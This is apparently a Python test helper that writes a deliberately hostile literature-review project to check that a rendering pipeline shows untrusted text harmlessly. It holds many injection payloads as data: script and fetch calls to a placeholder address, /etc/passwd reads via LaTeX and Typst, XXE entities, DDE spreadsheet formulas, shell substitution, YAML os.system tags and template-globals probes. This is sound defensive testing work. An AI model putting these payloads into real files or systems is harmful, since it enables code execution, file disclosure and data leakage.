"""A review that is built to be hostile: whatever it says would load, run or read something else."""

import yaml

from tests.support.hostile import hostile_files
from tests.support.records import VOCABULARY

# Each asks for an address in another language; ADDRESS is where that of a server stands.
REQUESTS = {
    "html": '<img src="ADDRESS/html.png" onerror="fetch(\'ADDRESS/j\')"><script src="ADDRESS/x">',
    "style": '<style>@import "ADDRESS/x.css";</style><link rel="stylesheet" href="ADDRESS/y.css">',
    "frame": '<iframe src="ADDRESS/f"></iframe><meta http-equiv="refresh" content="0;url=ADDRESS">',
    "drawing": '<svg onload="fetch(\'ADDRESS/svg\')"><image href="ADDRESS/image.png"/></svg>',
    "markdown": "![a](ADDRESS/md.png) [b](javascript:alert(1)) [@boon2021] @doe2020 -@{roe2021}",
    "raw": '```{=html}\n<img src="ADDRESS/raw.png">\n``` [c]: ADDRESS/link jane.doe@example.org',
    "latex": r"\includegraphics{ADDRESS/latex.png} \input{/etc/passwd} \href{javascript:x}{y}",
    "typst": '#image("ADDRESS/typst.png") #read("/etc/passwd") #import "@preview/cetz:0.2.2"',
    "formula": '=WEBSERVICE("ADDRESS/formula") =HYPERLINK("ADDRESS/cell","x")',
    "xml": '<!DOCTYPE a [<!ENTITY e SYSTEM "ADDRESS/e">]><xi:include href="ADDRESS/include"/>&e;',
    "shell": "$(touch PWNED) `touch PWNED`; touch PWNED | tee PWNED > PWNED && %PATH% ~ $HOME",
    "spreadsheet": '=cmd|\'/C calc\'!A0 @SUM(1) +1 -1 =DDE("a";"b";"c")',
    "format": "{review} {wildcards.review} {0.__class__.__mro__} {config} %s %(x)s {x!r:>99}",
    "tag": "!!python/object/apply:os.system ['touch PWNED'] __use_yte__: true ?import os",
    "template": "{{ cycler.__init__.__globals__ }} {% include 'ADDRESS/template' %}",
}
# What LaTeX can do in a field of a reference, beyond text.
LATEX = (
    r"\href{javascript:alert(1)}{Click} \href{file:///etc/passwd}{here} \url{javascript:alert(2)} "
    r"\href{data:text/html,x}{data} \includegraphics{ADDRESS/bib.png} "
    r"\includegraphics{/etc/passwd} \input{/etc/passwd} \verb|<b>verbatim</b>| \footnote{A note.} "
    r"\textcolor{red}{red} \(x^2\) \hypertarget{main}{there} <script>alert(1)</script> "
    r"<img src=ADDRESS/x.png> ![a](ADDRESS/y.png)"
)
ENTRY = """\
@article{KEY,
  title   = {Title of KEY LATEX},
  author  = {Doe, Jane LATEX},
  journal = {LATEX},
  note    = {LATEX},
  year    = {2020},
  url     = {javascript:alert(3)},
}
"""
CONFIG = {
    "syntheses": {"one": {"title": "TEXT (question)", "where": {"measure": ["activation"]}}},
    "evidence_map": ["one"],
    "results_sections": ["TEXT (section)"],
    "figure_dpi": 72,
}
SELECTION = {"reports_excluded": 3, "exclusion_reasons": {"TEXT (reason)": 3}}
JUDGEMENT = {"concern": "serious", "because": "TEXT (because)"}


def make_hostile_review(folder, address):
    """Write a review whose texts and references all point at an address.

    The check of records refuses nothing of it: all of it has to be harmless where it is shown.
    """
    text = " ".join(REQUESTS.values()).replace("ADDRESS", address)
    files = hostile_files(text, name=REQUESTS["html"].replace("ADDRESS", address))
    about = yaml.safe_load(files["review.yaml"]) | {
        "label": "TEXT (label)",
        "summary": "TEXT \u202ereversed\u202c \u2067turned\u2069 (summary)",
        "words": {"cohort": "sample [@boon2021]", "cohorts": "samples [@boon2021]"},
        "selection": SELECTION,
        "reporting": {"swim": {"1a": "TEXT (answer)"}},
        "certainty": {"one": {"indirectness": JUDGEMENT}},
        "config": CONFIG,
    }
    files["review.yaml"] = yaml.safe_dump(_filled(about, text), allow_unicode=True)
    entries = [ENTRY.replace("KEY", key) for key in ("doe2020", "roe2021")]
    files["references.bib"] = "\n".join(entries).replace("LATEX", LATEX.replace("ADDRESS", address))
    files["regions.csv"] = VOCABULARY
    for name, content in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content, encoding="utf-8")


def _filled(part, text):
    """Put a text in its place in plain data."""
    if isinstance(part, dict):
        return {_filled(key, text): _filled(value, text) for key, value in part.items()}
    if isinstance(part, list):
        return [_filled(value, text) for value in part]
    return part.replace("TEXT", text) if isinstance(part, str) else part
